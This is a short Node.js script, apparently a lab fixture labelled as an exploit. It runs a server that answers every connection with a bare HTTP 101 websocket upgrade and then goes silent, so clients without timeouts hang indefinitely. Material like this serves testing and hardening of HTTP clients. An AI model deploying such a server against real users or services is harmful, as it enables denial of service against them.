// exploit: answers that another protocol follows, which makes some clients wait for ever
// kind: lab
// exchange: none
// outcome: finished
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n')
}).listen(process.env.PORT)
